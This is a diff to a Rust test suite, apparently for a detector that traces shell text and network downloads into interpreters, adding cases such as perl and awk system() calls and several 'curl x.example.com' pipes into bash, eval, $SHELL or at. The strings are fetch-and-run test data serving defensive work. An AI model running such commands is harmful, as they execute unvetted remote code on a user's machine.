@@ -225,6 +225,9 @@ fn text_for_a_shell_is_handed_on() {
         ("bash <<E\na b\nE", "a b\n"),
         ("echo ZWNobyBoaQ== | base64 -d | sh", "echo hi"),
         ("trap 'a b' EXIT", "a b"),
+        ("perl -e 'system(\"a b\")'", "a b"),
+        ("awk 'BEGIN { system(\"a b\") }'", "a b"),
+        ("osascript -e 'do shell script \"a b\"'", "a b"),
         ("su root -c 'a b'", "a b"),
         ("cat > s.sh <<'E'\na $b\nE\nsh s.sh", "a $b\n"),
         ("echo 'a b' > x; chmod +x x; ./x", "a b\n"),
@@ -268,6 +271,13 @@ fn values_are_followed_from_the_network_into_an_interpreter() {
         "curl x.example.com | node -",
         "curl x.example.com | . /dev/stdin",
         "env -S 'bash -c' \"$(curl x.example.com)\"",
+        "curl x.example.com | bash -c \"$(cat)\"",
+        "curl x.example.com | eval \"$(tr a b)\"",
+        "curl x.example.com | $SHELL",
+        "curl x.example.com | \"$(command -v bash)\"",
+        "F=$(mktemp); curl -o \"$F\" x.example.com; bash $F",
+        "D=$(mktemp -d)\ncurl -o $D/i.sh x.example.com && . \"$D\"/i.sh",
+        "curl x.example.com | at now",
     ] {
         assert!(
             evaluates(text, Origins::NETWORK),
@@ -454,6 +464,8 @@ fn hostile_texts_take_linear_time() {
     ] {
         bounded(piece, &many(piece));
     }
+    bounded("spawned", &format!("perl -e '{}'", many("system (")));
+    bounded("spawned", &format!("perl -e '{}'", many("system  x('a')")));
     let doubling: String = (0..40).map(|n| format!("a{}=$a{n}$a{n};", n + 1)).collect();
     bounded(
         "doubling",
